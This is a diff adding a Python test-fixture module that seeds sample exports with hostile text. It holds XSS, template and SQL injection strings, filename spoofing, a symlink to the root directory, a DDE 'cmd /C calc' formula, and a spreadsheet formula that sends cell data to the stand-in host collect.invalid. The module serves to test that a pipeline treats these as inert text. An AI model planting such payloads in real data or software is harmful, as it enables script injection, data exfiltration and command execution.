@@ -1,0 +1,59 @@
+"""What an attacker would put into raw files: text that wants to run, files that lead astray."""
+
+from pathlib import Path
+
+from cxlab.data.sample.dirt import KEPT, Dirt
+
+__all__ = ["INJECTIONS", "hostile_dirt", "write_hostile_files"]
+
+# Each wants to be run by something: a browser, a template, a spreadsheet, a database, a
+# terminal. All of them are text and stay text.
+INJECTIONS = {
+    "script": "<script>window.hacked=1</script>",
+    "onerror": "<img src=x onerror=window.hacked=1>",
+    "link": '<a href="javascript:window.hacked=1">kopi</a>',
+    "svg": "<svg onload=window.hacked=1><title>x</title></svg>",
+    "style": "</style></script><!-- --><iframe srcdoc='<p>x'>",
+    "template": "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
+    "override": "gpj.exe \u202e kopi \u2066",
+    "formula": '=HYPERLINK("http://collect.invalid/?x="&A1,"klik")',
+    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "SQL": "'; drop table comments; -- \" \\",
+    "control": "kopi \x01\x07\x1b[31m merah \x7f",
+    "markdown": "[x](javascript:alert(1)) ![y](http://collect.invalid/y.png) $\\int$",
+    "long": "kopi " * 20_000,
+}
+
+
+def hostile_dirt() -> tuple[Dirt, ...]:
+    """Return the injections as dirt of comments and of labels that charts may show."""
+    kinds = [
+        Dirt(
+            name=f"injected {name}", export="reviews_posts", table="comments", fate=KEPT,
+            reason="", rows=2,
+            replace=f"'Z{place}' || post_id as post_id, {_text(words)} as body",
+        )
+        for place, (name, words) in enumerate(INJECTIONS.items())
+    ]  # fmt: skip
+    labels = [
+        Dirt(
+            name=f"injected {name} as region", export="crm_accounts", table="customers",
+            fate=KEPT, reason="", rows=20,
+            replace=f"AccountNo::bigint + {70 + place}000000 as AccountNo, {_text(words)} as City, "
+            f"'Z{place}' || Email as Email",
+        )
+        for place, (name, words) in enumerate(INJECTIONS.items()) if name != "long"
+    ]  # fmt: skip
+    return (*kinds, *labels)
+
+
+def write_hostile_files(raw: Path) -> None:
+    """Put files beside the exports that no mapping names, and that nobody should follow."""
+    (raw / "crm" / "way out").symlink_to("/")
+    (raw / "crm" / "broken quote.csv").write_text('a,b\n"never closed,1\n', encoding="utf-8")
+    (raw / "reviews" / "'; drop table x; --.json").write_text("{", encoding="utf-8")
+    (raw / "cdp" / "\u202egpj.parquet").write_bytes(b"PAR1\x00\xff\x00")
+
+
+def _text(words: str) -> str:
+    return "'" + words.replace("'", "''") + "'"
